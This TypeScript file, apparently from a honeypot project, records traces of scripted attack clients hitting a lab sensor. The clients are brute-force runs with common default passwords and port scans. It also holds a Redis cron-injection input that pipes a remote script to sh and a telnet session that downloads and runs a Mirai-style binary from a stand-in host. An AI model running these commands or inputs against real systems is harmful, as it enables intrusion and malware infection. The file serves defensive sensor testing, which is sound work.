/** Traces of real clients: each visits the sensor in the lab, whose --record-directory is then cut into visits. */
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { frames } from '../../agent/link/replay.ts'
import { attackerAddress, createLab, type Lab, SENSOR_ADDRESS as SENSOR } from '../lab/lab.ts'
import { sensorMac, startSensor } from '../lab/processes.ts'
import { JAWS } from './synthetic.ts'
import { type TimedFrame, writeTrace } from './trace-file.ts'

const CLIENT_MS = 40_000
/** Between two visits: longer than the last acknowledgments of a visit take. */
const GAP_MS = 1500
/** Where a line is typed after another: longer than BusyBox login's pause after a wrong password. */
const TYPING_S = 4

type Client = {
  readonly name: string
  readonly command: string
  /** SENSOR_MAC stands for the sensor's hardware address, with dashes. */
  readonly args: readonly string[]
  readonly input?: string
}
const WORDS = 'words.txt'
const SENSOR_MAC = 'SENSOR_MAC'
const curl = (name: string, url: string, ...flags: string[]): Client => ({
  name,
  command: 'curl',
  args: ['-sS', '-m', '10', ...flags, `http://${SENSOR}${url}`],
})
const hydra = (name: string, user: string, service: string, ...rest: string[]): Client => ({
  name,
  command: 'hydra',
  args: ['-I', '-t', '2', '-l', user, '-P', WORDS, SENSOR, service, ...rest],
})
const typed = (name: string, lines: readonly string[], port = 23): Client => ({
  name,
  command: 'sh',
  args: [
    '-c',
    `(${lines.map((line) => `sleep ${TYPING_S}; echo '${line}'`).join('; ')}; sleep 2) | telnet ${SENSOR} ${port}`,
  ],
})

/** By persona: which machine the clients meet. */
const CLIENTS: Readonly<Record<string, readonly Client[]>> = {
  'ubuntu-22-04': [
    curl('http/curl-front-page', '/'),
    curl('http/curl-basic-login', '/manager/html', '-u', 'admin:7ujMko0admin'),
    curl('http/curl-form-login', '/login.php', '-d', 'username=admin&password=letmein'),
    curl('http/curl-jaws-port-8', `:8${JAWS}`, '-A', 'Hello, world', '-H', 'Host: 127.0.0.1:80'),
    hydra('http/hydra-basic', 'admin', 'http-get', '/'),
    hydra('ssh/hydra', 'root', 'ssh'),
    {
      name: 'ssh/openssh-wrong-password',
      command: 'sshpass',
      args: [
        ...['-p', 'letmein', 'ssh', '-o', 'StrictHostKeyChecking=no', '-F', 'none'],
        ...['-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password'],
        ...['-o', 'NumberOfPasswordPrompts=1', `root@${SENSOR}`, 'id'],
      ],
    },
    {
      name: 'redis/redis-cli-cron',
      command: 'redis-cli',
      args: ['-h', SENSOR],
      input:
        'INFO server\nCONFIG SET dir /var/spool/cron\nCONFIG SET dbfilename root\nSET x "\\n* * * * * curl http://192.0.2.77/i.sh | sh\\n"\nSAVE\n',
    },
    {
      name: 'redis/redis-cli-auth',
      command: 'redis-cli',
      args: ['-h', SENSOR, '-a', 'foobared', 'KEYS', '*'],
    },
    {
      name: 'scan/nmap-syn',
      command: 'nmap',
      args: ['-Pn', '-n', '-sS', '-p', '21-25,80,443,3389,6379,8080', SENSOR],
    },
    {
      name: 'scan/nmap-connect',
      command: 'nmap',
      args: ['-Pn', '-n', '-sT', '-p', '22,80,111', SENSOR],
    },
    {
      name: 'scan/nmap-version-http',
      command: 'nmap',
      args: ['-Pn', '-n', '-sV', '--version-light', '-p', '80', SENSOR],
    },
    {
      name: 'scan/masscan',
      // It waits for ever in a namespace with one route; all is sent within a second.
      command: 'timeout',
      args: [
        ...['4', 'masscan', SENSOR, '-p', '1-40', '--rate', '200', '--wait', '1', '-e', 'eth0'],
        ...['--source-ip', attackerAddress(0), '--router-mac', SENSOR_MAC],
      ],
    },
  ],
  'dvr-jaws': [
    typed('telnet/telnet-shell', [
      'root',
      'admin',
      'root',
      'klv123',
      'enable',
      'cat /proc/mounts; /bin/busybox ECCHI',
      'cd /tmp; wget http://192.0.2.77/bins/mirai.arm7 -O .x; chmod 777 .x; ./.x telnet',
      'exit',
    ]),
    hydra('telnet/hydra', 'root', 'telnet'),
    curl('http/curl-jaws-port-60001', `:60001${JAWS}`, '-A', 'Hello, world'),
  ],
  'windows-server-2016': [
    {
      name: 'mssql/tsql',
      command: 'tsql',
      args: ['-H', SENSOR, '-p', '1433', '-U', 'sa', '-P', 'P@ssw0rd'],
      input: 'exit\n',
    },
    {
      name: 'mssql/squelda-script',
      command: process.execPath,
      args: [
        fileURLToPath(new URL('../lab/squelda.ts', import.meta.url)),
        SENSOR,
        '1433',
        'sa',
        '',
      ],
    },
    hydra('mssql/hydra', 'sa', 'mssql'),
  ],
}

export async function writeLive(only: string): Promise<void> {
  const scratch = mkdtempSync(join(tmpdir(), 'cuttle-traces-'))
  try {
    writeFileSync(join(scratch, WORDS), ['admin', '123456', 'xc3511'].map((w) => `${w}\n`).join(''))
    for (const [persona, clients] of Object.entries(CLIENTS)) {
      const some = clients.filter(({ name }) => name.startsWith(only))
      if (some.length > 0) await record(persona, some, scratch)
    }
  } finally {
    rmSync(scratch, { recursive: true })
  }
}

async function record(persona: string, clients: readonly Client[], scratch: string): Promise<void> {
  const state = join(scratch, persona)
  const directory = join(state, 'frames')
  mkdirSync(state)
  // The seed that replay has: the same accounts, so that what is accepted here is accepted there.
  writeFileSync(
    join(state, 'identity.json'),
    JSON.stringify({ seed: '00'.repeat(32), persona, extraPorts: [], since: '2026-01-01' }),
  )
  const lab = await createLab()
  const windows: { readonly name: string; readonly from: number; readonly to: number }[] = []
  try {
    const sensor = await startSensor(lab, {
      state,
      persona,
      flags: ['--record-directory', directory],
    })
    const mac = (await sensorMac(lab)).replaceAll(':', '-')
    for (const client of clients) {
      const args = client.args.map((arg) => (arg === SENSOR_MAC ? mac : arg))
      windows.push(await during(lab, { ...client, args }, scratch))
    }
    await sensor.stop()
  } finally {
    await lab.close()
  }
  const all = readdirSync(directory)
    .sort()
    .flatMap((name): TimedFrame[] => [...frames(join(directory, name))])
  for (const { name, from, to } of windows) {
    const part = all.filter(({ time }) => time >= from && time <= to)
    console.log(`${name} ${part.length} frames, ${writeTrace(name, part)} bytes`)
  }
}

async function during(lab: Lab, { name, command, args, input }: Client, cwd: string) {
  const from = Date.now()
  const { code, stdout, stderr } = await lab.attacker.exec(command, args, {
    cwd,
    timeoutMs: CLIENT_MS,
    ...(input !== undefined && { input }),
  })
  console.log(`${name}: exit ${code}\n${`${stdout}\n${stderr}`.trim().slice(-400)}`)
  await new Promise((done) => setTimeout(done, GAP_MS))
  return { name, from, to: Date.now() }
}
